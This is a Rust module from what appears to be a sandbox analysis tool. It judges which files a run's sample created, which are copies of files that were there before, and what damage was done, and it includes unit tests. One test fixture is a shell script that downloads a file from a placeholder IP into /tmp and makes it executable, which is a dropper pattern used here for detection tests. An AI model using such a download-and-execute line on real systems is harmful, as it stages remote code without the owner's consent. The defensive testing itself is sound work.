//! The judgement on the files of a run when it is over. It says what was destroyed (`damage`), and what the
//! sample put there. The contents at the end count, however they got there.
//!
//! A file is the sample's own if less than half of it was there at the start. It may have stood in a file, in
//! what such a file can be unpacked to, or in standard input. Of an archive the members count.
//!
//! Costs one pass over what was there if any of the files that changed holds a program or script.
//!
//! Not here: what such a file holds (`held`).

use std::collections::HashSet;

use memchr::memmem;
use sha2::{Digest as _, Sha256};

use super::{
    damage::{self, Found, decoded},
    fs::{FileChange, Left},
    held::{Held, held},
    limits::{DAMAGE_SEARCHED, HELD_BYTES},
    touched, typed,
    types::{Run, RunOptions},
};
use crate::hex;

/// Share of a file from which on it is a copy.
const COPIED: f64 = 0.5;

impl FileChange {
    /// As much of its contents as is looked at: scripts and pages show what they are in it.
    pub(crate) fn head(&self) -> &[u8] {
        self.contents.get(..HELD_BYTES).unwrap_or(&self.contents)
    }
}

/// Judges what a run did to files.
pub(crate) fn judge(options: &RunOptions, run: &mut Run) {
    run.asked = damage::asked(options);
    let wanted = damage::wanted(run, &damage::files(options));
    run.damage = damage::assess(options, &run.files, &wanted);
    excuse(options, run);
    let same = Same::of(options, &run.files);
    let held = held(&run.files);
    let known = known(options, held.iter().flatten().flat_map(|held| held.parts.iter()));
    for (change, held) in run.files.iter_mut().zip(held) {
        let held = held.filter(|held| !is_known(&known, held));
        let holds = held.as_ref().and_then(|held| held.contents);
        let is_unseen = held.is_some_and(|held| !held.is_whole);
        let (is_copy, is_same) = same.look(change);
        let is_asked = run.asked.iter().any(|arg| is_within(arg, change.last_path()));
        let is_wanted = wanted.contains(&change.path);
        let holds = holds.filter(|_| !is_copy);
        change.left = Left { holds, is_unseen: is_unseen && !is_copy, is_copy, is_same, is_asked, is_wanted };
    }
    run.touched = touched::touched(options, run);
}

/// Excuses what the driver itself had written.
fn excuse(options: &RunOptions, run: &mut Run) {
    if !run.entries.iter().any(|entry| entry.made_up) {
        return;
    }
    let (before, seed) = (damage::files(options), options.seed.number());
    for damage in &mut run.damage {
        let change = run.files.iter().find(|change| change.path == damage.path);
        if let (Some(change), Some(before)) = (change, before.get(damage.path.as_str())) {
            typed::excuse(damage, before, change, seed);
        }
    }
}

impl Run {
    /// The modules that were built in memory, but for those that a compiler makes. A compiler reads a source
    /// that its arguments name, and its modules stand in a file that these name, too.
    pub(crate) fn carved_unasked(&self) -> Vec<&[u8]> {
        if !self.carved.is_empty() && !self.reads_source() {
            return self.carved.iter().map(Vec::as_slice).collect();
        }
        let asked: Vec<_> = self.files.iter().filter(|file| file.left.is_asked).collect();
        let is_made = |module: &[u8]| asked.iter().any(|file| memmem::find(&file.contents, module).is_some());
        self.carved.iter().map(Vec::as_slice).filter(|module| !is_made(module)).collect()
    }

    /// Whether it opened a file that its arguments name and that it did not write. It counts, too, that it
    /// read standard input where an argument says `-`.
    fn reads_source(&self) -> bool {
        if self.asked.iter().any(|arg| arg == "-") && damage::has_read_input(self) {
            return true;
        }
        let is_written = |arg: &str| self.files.iter().any(|file| damage::is_named(arg, file.last_path()));
        let mut sources = self.asked.iter().filter(|arg| !is_written(arg));
        damage::has_asked(self) && sources.any(|arg| damage::has_opened(self, arg))
    }
}

/// Whether an argument names a file, or a folder that it is in.
pub(crate) fn is_within(arg: &str, path: &str) -> bool {
    let is_one = |path: &str| damage::is_named(arg.trim_end_matches('/'), path);
    let folders = path.match_indices('/').map(|(at, _)| &path[..at]).filter(|folder| !folder.is_empty());
    // The last part of a word such as `--out=file` is a name too.
    let after =
        arg.rsplit_once('=').is_some_and(|(_, name)| !name.is_empty() && damage::is_named(name, path));
    after || is_one(path) || folders.into_iter().any(is_one)
}

/// Looks for what was written in what was there before.
fn known<'a>(options: &RunOptions, parts: impl Iterator<Item = &'a Vec<u8>>) -> Found {
    let mut found = Found::wanting(parts.map(|part| &part[..]));
    let mut room = DAMAGE_SEARCHED;
    if !found.is_idle() {
        for bytes in damage::files(options).into_values().chain([&options.stdin[..]]) {
            if room == 0 {
                break;
            }
            found.search(bytes, &mut room);
            decoded(bytes).iter().for_each(|bytes| found.search(bytes, &mut room));
        }
    }
    found
}

fn is_known(known: &Found, held: &Held) -> bool {
    held.parts.iter().all(|part| known.share(part).is_some_and(|share| share >= COPIED))
}

/// The hashes of the files at the start, and with the last part of their paths.
#[derive(Default)]
struct Same {
    hashes: HashSet<String>,
    named: HashSet<(String, String)>,
}

impl Same {
    fn of(options: &RunOptions, changes: &[FileChange]) -> Self {
        let mut same = Self::default();
        let sizes: HashSet<u64> = changes.iter().map(|change| change.contents.len() as u64).collect();
        for (path, bytes) in damage::files(options) {
            if !bytes.is_empty() && sizes.contains(&(bytes.len() as u64)) {
                let hash = hex::hex(&Sha256::digest(bytes));
                same.named.insert((hash.clone(), name(path).to_owned()));
                same.hashes.insert(hash);
            }
        }
        same
    }

    /// Whether a file holds what one held at the start, and whether it has its name.
    fn look(&self, change: &FileChange) -> (bool, bool) {
        let Some(hash) = &change.sha256 else { return (false, false) };
        let key = (hash.clone(), name(change.last_path()).to_owned());
        (self.hashes.contains(hash), self.named.contains(&key))
    }
}

/// The last part of a path.
fn name(path: &str) -> &str {
    path.rsplit_once('/').map_or(path, |(_, name)| name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::{ChangeKind, Contents};

    fn left(path: &str, bytes: &[u8], options: &RunOptions) -> Left {
        let change = FileChange {
            path: path.into(),
            change: ChangeKind::Created,
            size_after: Some(bytes.len() as u64),
            sha256: Some(hex::hex(&Sha256::digest(bytes))),
            contents: bytes.to_vec(),
            ..FileChange::default()
        };
        let mut run = Run { files: vec![change], ..Run::default() };
        judge(options, &mut run);
        run.files[0].left
    }

    const SCRIPT: &[u8] = b"#!/bin/sh\ncurl -s http://192.0.2.7/a -o /tmp/a\nchmod +x /tmp/a\n";

    #[test]
    fn what_was_there_is_not_the_samples_own() {
        let mut options = RunOptions::default();
        assert_eq!(left("/home/u/a.sh", SCRIPT, &options).holds, Some(Contents::Command));
        options.files.insert("/home/u/b.sh".into(), SCRIPT.to_vec());
        let copy = left("/home/u/a.sh", SCRIPT, &options);
        assert_eq!((copy.holds, copy.is_copy, copy.is_same), (None, true, false));
        assert!(left("/backup/b.sh", SCRIPT, &options).is_same);
        let longer = [SCRIPT, b"# end\n"].concat();
        assert_eq!(left("/home/u/a.sh", &longer, &options).holds, None);
        let input = RunOptions { stdin: SCRIPT.to_vec(), ..RunOptions::default() };
        assert_eq!(left("/home/u/a.sh", SCRIPT, &input).holds, None);
    }

    #[test]
    fn arguments_name_files_and_folders() {
        for (arg, path, expected) in [
            ("/home/u/.bashrc", "/home/u/.bashrc", true),
            (".bashrc", "/home/u/.bashrc", true),
            ("project/", "/home/u/project/src/a.rs", true),
            ("--out=prog", "/home/u/prog", true),
            ("u", "/home/user/a", false),
            ("/", "/home/u/a", false),
            ("", "/home/u/a", false),
        ] {
            assert_eq!(is_within(arg, path), expected, "{arg} {path}");
        }
    }
}
